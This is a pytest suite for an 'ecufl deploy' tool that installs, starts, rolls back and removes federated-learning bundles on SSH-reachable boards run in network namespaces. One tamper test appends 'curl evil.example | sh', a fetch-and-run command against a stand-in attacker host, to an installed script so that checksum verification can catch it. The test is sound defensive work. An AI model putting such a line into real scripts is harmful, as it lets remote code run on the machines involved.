"""`ecufl deploy` against real sshd "boards" in network namespaces (root; see tests/netns.py).

The boards run services under ecufl-supervise (systemd is not in a namespace); ecufl runs in the
gateway namespace. Each bad input gives one line naming the board, and leaves nothing half-installed.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from conftest import ecufl_cmd
from netns import Lab, ecufl_wheel, keygen, new_prefix

pytestmark = [pytest.mark.root, pytest.mark.slow]


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    if os.geteuid() != 0:
        pytest.fail("the deploy tests need root (network namespaces, sshd); CI runs as root")
    lab = Lab(new_prefix(), tmp_path_factory.mktemp("lab"), n=3, disk_mb={3: 1})
    try:
        yield lab.up()
    finally:
        left = lab.down()
        assert left == [], f"namespaces left behind: {left}"


@pytest.fixture(scope="module")
def wheel():
    return ecufl_wheel()


@pytest.fixture(scope="module")
def arm_natives(tmp_path_factory):
    d = tmp_path_factory.mktemp("arm")
    (d / "t.c").write_text("int main(void){return 0;}\n")
    subprocess.run(["arm-linux-gnueabihf-gcc", "-static", "-mcpu=cortex-a9", "-mfpu=neon", "-mfloat-abi=hard",
                    "-o", str(d / "ecufl-train-c"), str(d / "t.c")], check=True)
    return d


def board_toml(name, host, key, root, *, arch="x86_64", mode="supernode", port=22, data="/nonexistent",
               profile="default") -> str:
    import sys

    site = next(p for p in sys.path if p.endswith("site-packages"))
    return f"""
[boards.{name}]
host = "{host}"
port = {port}
user = "root"
key = "{key}"
arch = "{arch}"
mode = "{mode}"
profile = "{profile}"
data = "{data}"
install_root = "{root}"
init = "supervise"
python = "{Path(sys.base_prefix) / 'bin' / 'python3'}"
python_path = ["{site}"]
"""


# The example inventory's i.MX6 profile: the board agent must train within 64 MB (issue #9).
PROFILES = "[profiles.default]\n[profiles.imx6]\nmemory_max_mb = 64\ncpu_quota_percent = 80\nnice = 10\n"


def inventory(lab: Lab, path: Path, boards: list[str], state: Path) -> Path:
    text = f'[fleet]\nsuperlink = "{lab.gw_addr}:9092"\nstate_dir = "{state}"\n' + PROFILES + "".join(boards)
    path.write_text(text)
    return path


def deploy(lab: Lab, inv: Path, *args: str, timeout: float = 300) -> subprocess.CompletedProcess:
    env = dict(os.environ, ECUFL_DATA=os.environ.get("ECUFL_DATA", ""))
    return lab.gw(*ecufl_cmd(), "deploy", "-i", str(inv), *args, env=env, timeout=timeout)


def errors(r) -> list[str]:
    return [ln for ln in r.stderr.splitlines() if ln.startswith("ecufl:")]


def std_boards(lab: Lab, names=("b1", "b2")) -> list[str]:
    out = []
    for b in lab.boards:
        if b.name in names:
            out.append(board_toml(b.name, b.addr, lab.client_key, b.dir / "opt" / "ecufl"))
    return out


def cgroup_limits(pid: int) -> dict[str, int]:
    """The memory limit and CPU quota of the cgroups ``pid`` is in (cgroup v1 or v2)."""
    out = {}
    for line in Path(f"/proc/{pid}/cgroup").read_text().splitlines():
        _, ctrls, path = line.split(":", 2)
        if ctrls == "" and Path("/sys/fs/cgroup/cgroup.controllers").exists():  # v2
            d = Path("/sys/fs/cgroup" + path)
            if (d / "memory.max").exists():
                out["memory"] = int((d / "memory.max").read_text())
            if (d / "cpu.max").exists():
                out["cpu"] = int((d / "cpu.max").read_text().split()[0])
        for c in ctrls.split(","):
            if c in ("memory", "cpu"):
                mnt = next(ln.split()[1] for ln in Path("/proc/mounts").read_text().splitlines()
                           if ln.split()[2] == "cgroup" and c in ln.split()[3].split(","))
                f = {"memory": "memory.limit_in_bytes", "cpu": "cpu.cfs_quota_us"}[c]
                out[c] = int(Path(mnt + path, f).read_text())
    return out


def status(lab, inv) -> dict:
    r = deploy(lab, inv, "status", "--json")
    return json.loads(r.stdout)


def test_lifecycle_push_start_status_logs_rollback_remove(lab, wheel, tmp_path):
    state = tmp_path / "state"
    inv = inventory(lab, tmp_path / "inv.toml", std_boards(lab), state)
    r = deploy(lab, inv, "build", "--wheel", str(wheel))
    assert r.returncode == 0, r.stderr
    v1 = json.loads((state / "bundles" / "latest-x86_64.json").read_text())["id"]

    r = deploy(lab, inv, "push", "--insecure")
    assert r.returncode == 0, r.stderr
    assert r.stdout.count("pinned its host key") == 2 and "trust on first use" in r.stdout
    assert len((state / "known_hosts").read_text().splitlines()) == 2
    st = status(lab, inv)
    assert st["b1"]["current"] == v1 and st["b1"]["previous"] is None and not st["b1"]["running"]

    r = deploy(lab, inv, "start")
    assert r.returncode == 0, r.stderr
    st = status(lab, inv)
    assert st["b1"]["running"] and st["b2"]["running"]
    # the real flower-supernode from the bundle runs in the board's namespace, from `current`
    b1 = lab.boards[0]
    ps = [c for c in lab.cmdlines(b1) if "flower-supernode" in c]
    assert len(ps) == 1 and "--insecure" in ps[0] and f"--superlink {lab.gw_addr}:9092" in ps[0], ps
    logs = deploy(lab, inv, "logs", "b1", "-n", "200")
    assert logs.returncode == 0 and "ecufl-supervise: starting ecufl-supernode" in logs.stdout
    # the unit's MemoryMax/CPUQuota (default profile) hold for the service and all it started
    assert "limits MemoryMax=1024M CPUQuota=80%: " in logs.stdout, logs.stdout
    mem = cgroup_limits(int(lab.on_board(b1, f"cat {b1.dir}/opt/ecufl/run/ecufl-supernode.child").stdout))
    assert mem == {"memory": 1024 * 2**20, "cpu": 80000}, mem

    # the service dies: the supervisor restarts it (Restart=on-failure)
    child = int(lab.on_board(b1, f"cat {b1.dir}/opt/ecufl/run/ecufl-supernode.child").stdout)
    os.kill(child, 9)
    for _ in range(40):
        st = status(lab, inv)
        if st["b1"]["restarts"] >= 1 and st["b1"]["running"]:
            break
    assert st["b1"]["restarts"] >= 1 and st["b1"]["running"], st

    # a second version: push keeps the first as `previous`; rollback swaps them and restarts
    assert deploy(lab, inv, "build", "--wheel", str(wheel)).returncode == 0
    v2 = json.loads((state / "bundles" / "latest-x86_64.json").read_text())["id"]
    assert v2 != v1
    r = deploy(lab, inv, "push", "--insecure")
    assert r.returncode == 0, r.stderr
    st = status(lab, inv)
    assert (st["b2"]["current"], st["b2"]["previous"]) == (v2, v1)
    r = deploy(lab, inv, "rollback", "b2")
    assert r.returncode == 0 and "rolled back to" in r.stdout and "restarted" in r.stdout, r.stderr
    st = status(lab, inv)
    assert (st["b2"]["current"], st["b2"]["previous"]) == (v1, v2) and st["b2"]["running"]
    link = lab.on_board(lab.boards[1], f"readlink {lab.boards[1].dir}/opt/ecufl/current").stdout.strip()
    assert link == f"releases/{v1}"

    r = deploy(lab, inv, "remove")
    assert r.returncode == 0, r.stderr
    for b in lab.boards[:2]:
        assert not (b.dir / "opt" / "ecufl").exists()
        left = lab.cmdlines(b)
        assert all(c.startswith(("sh -c", "/usr/sbin/sshd", "sshd:")) for c in left), left


def test_tampered_bundle_is_refused_at_start(lab, wheel, tmp_path):
    state = tmp_path / "state"
    inv = inventory(lab, tmp_path / "inv.toml", std_boards(lab, ("b1",)), state)
    assert deploy(lab, inv, "build", "--wheel", str(wheel)).returncode == 0
    assert deploy(lab, inv, "push", "--insecure").returncode == 0
    cur = lab.boards[0].dir / "opt" / "ecufl" / "current"
    target = cur / "bin" / "ecufl-supervise"
    target.write_text(target.read_text() + "\ncurl evil.example | sh\n")
    r = deploy(lab, inv, "start")
    assert r.returncode == 1
    assert errors(r)[0] == ("ecufl: board b1: bundle " + cur.resolve().name + " fails its checksums "
                            "(bin/ecufl-supervise): tampered or corrupt; refusing to start; push it again")
    assert not status(lab, inv)["b1"]["running"]
    # also rewrite the manifest to match: the manifest's own digest, kept on the host, catches it
    subprocess.run(["sh", "-c", "sha256sum bin/ecufl-supervise > /tmp/x.$$ && "
                    "grep -v ' bin/ecufl-supervise$' MANIFEST.sha256 >> /tmp/x.$$ && mv /tmp/x.$$ MANIFEST.sha256"],
                   cwd=cur, check=True)
    r = deploy(lab, inv, "start")
    assert r.returncode == 1 and "MANIFEST.sha256 on the board is not the one ecufl built" in errors(r)[0]
    assert not status(lab, inv)["b1"]["running"]
    # pushing again repairs it (the release is re-uploaded because its manifest does not match)
    assert deploy(lab, inv, "push", "--insecure").returncode == 0
    r = deploy(lab, inv, "start")
    assert r.returncode == 0, r.stderr
    assert deploy(lab, inv, "remove").returncode == 0


def test_bad_boards_one_line_each_the_rest_goes_on(lab, wheel, arm_natives, tmp_path):
    state = tmp_path / "state"
    b1, b2, b3 = lab.boards
    wrong = keygen(tmp_path / "id_wrong")
    boards = [
        board_toml("good", b1.addr, lab.client_key, b1.dir / "opt" / "ecufl"),
        board_toml("ghost", "10.213.7.99", lab.client_key, "/opt/ecufl"),
        board_toml("wrongkey", b2.addr, wrong, b2.dir / "opt" / "ecufl"),
        board_toml("wrongarch", b3.addr, lab.client_key, b3.disk / "ecufl", arch="armv7-a9"),
    ]
    inv = inventory(lab, tmp_path / "inv.toml", boards, state)
    assert deploy(lab, inv, "build", "--arch", "x86_64", "--wheel", str(wheel)).returncode == 0
    assert deploy(lab, inv, "build", "--arch", "armv7-a9", "--natives", str(arm_natives)).returncode == 0
    r = deploy(lab, inv, "push", "--insecure")
    assert r.returncode == 1
    errs = sorted(errors(r))
    assert len(errs) == 4, r.stderr  # three boards + the summary line
    assert any(e.startswith("ecufl: board ghost: unreachable at 10.213.7.99:22") for e in errs), errs
    assert any(e.startswith(f"ecufl: board wrongkey: SSH key {wrong} was refused for root@{b2.addr}:22") for e in errs)
    assert "ecufl: board wrongarch: is x86_64, but the inventory says arch = 'armv7-a9' (expects armv7l): " \
           "fix the inventory or the host address" in errs
    assert "ecufl: error: 3 of 4 board(s) failed: ghost, wrongkey, wrongarch" in r.stderr
    assert "board good: " in r.stdout and "installed" in r.stdout
    assert not (b2.dir / "opt" / "ecufl").exists()
    assert deploy(lab, inv, "remove", "good").returncode == 0


def test_full_disk_installs_nothing(lab, wheel, tmp_path):
    state = tmp_path / "state"
    b3 = lab.boards[2]
    root = b3.disk / "ecufl"  # a 1 MiB tmpfs, mounted only in b3's namespace
    inv = inventory(lab, tmp_path / "inv.toml", [board_toml("small", b3.addr, lab.client_key, root)], state)
    assert deploy(lab, inv, "build", "--wheel", str(wheel)).returncode == 0
    r = deploy(lab, inv, "push", "--insecure")
    assert r.returncode == 1
    e = errors(r)[0]
    assert e.startswith(f"ecufl: board small: not enough disk space under {root}: the bundle needs ") and \
        e.endswith("MiB free; nothing was installed"), e
    st = status(lab, inv)
    assert st["small"]["current"] is None
    # nothing half-installed: no release, no incoming dir, no current link
    ls = subprocess.run(["ip", "netns", "exec", lab.gw_ns, "ssh", "-i", str(lab.client_key), "-o",
                         f"UserKnownHostsFile={state / 'known_hosts'}", "-o", "StrictHostKeyChecking=yes",
                         f"root@{b3.addr}", f"ls -A {root}/releases; ls -A {root}"], capture_output=True, text=True)
    assert ls.returncode == 0, ls.stderr
    assert ls.stdout.split() == [".ecufl-root", "etc", "releases", "run"], ls.stdout
    assert deploy(lab, inv, "remove").returncode == 0


def test_changed_host_key_is_refused(lab, wheel, tmp_path):
    state = tmp_path / "state"
    b2 = lab.boards[1]
    inv = inventory(lab, tmp_path / "inv.toml", std_boards(lab, ("b2",)), state)
    assert deploy(lab, inv, "status").returncode == 0  # first contact: pinned
    pinned = (state / "known_hosts").read_text()
    # the board is "replaced" by an impostor with another host key on the same address
    lab.kill_ns(b2.ns)
    b2.sshd.wait(timeout=5)
    b2.host_key.unlink()
    Path(str(b2.host_key) + ".pub").unlink()
    keygen(b2.host_key)
    lab.start_sshd(b2)
    lab.wait_ssh(b2)
    r = deploy(lab, inv, "status")
    assert r.returncode == 1
    assert errors(r)[0] == (f"ecufl: board b2: host key of {b2.addr}:22 differs from the one pinned in "
                            f"{state / 'known_hosts'}: refusing to connect (if the board was re-imaged, "
                            "delete its line there)")
    assert (state / "known_hosts").read_text() == pinned
    (state / "known_hosts").write_text("")
    assert deploy(lab, inv, "build", "--wheel", str(wheel)).returncode == 0
    r = deploy(lab, inv, "push", "--insecure", "--no-pin")
    assert r.returncode == 1 and "is not in" in errors(r)[0] and "--no-pin" in errors(r)[0]


def test_board_reboot(lab, wheel, tmp_path):
    state = tmp_path / "state"
    b1 = lab.boards[0]
    inv = inventory(lab, tmp_path / "inv.toml", std_boards(lab, ("b1",)), state)
    assert deploy(lab, inv, "build", "--wheel", str(wheel)).returncode == 0
    assert deploy(lab, inv, "push", "--insecure").returncode == 0
    assert deploy(lab, inv, "start").returncode == 0
    lab.reboot(b1)  # power cut: every process of the board dies
    st = status(lab, inv)
    assert not st["b1"]["running"] and st["b1"]["current"]
    r = deploy(lab, inv, "start")  # stale pid files do not confuse start
    assert r.returncode == 0, r.stderr
    assert status(lab, inv)["b1"]["running"]
    assert deploy(lab, inv, "remove").returncode == 0


def test_agent_board_without_its_data_is_one_line(lab, tmp_path):
    """push copies no training data: an agent board whose `data` directory holds no MNIST refuses to
    start with one line naming the board and the directory, and nothing else is left running."""
    state = tmp_path / "state"
    b2 = lab.boards[1]
    inv = inventory(lab, tmp_path / "inv.toml", [board_toml("nodata", b2.addr, lab.client_key, b2.dir / "opt" / "ecufl",
                                                            mode="agent", profile="imx6", data="/nonexistent")], state)
    assert deploy(lab, inv, "build", "--wheel", str(ecufl_wheel())).returncode == 0
    assert deploy(lab, inv, "push").returncode == 0
    r = deploy(lab, inv, "start")
    assert r.returncode == 1
    assert errors(r)[0] == ("ecufl: board nodata: ecufl-agent did not stay up: ecufl-agent: error: "
                            "no train-images-idx3-ubyte[.gz] in /nonexistent"), r.stderr
    assert deploy(lab, inv, "remove").returncode == 0
    assert not (b2.dir / "opt" / "ecufl").exists()
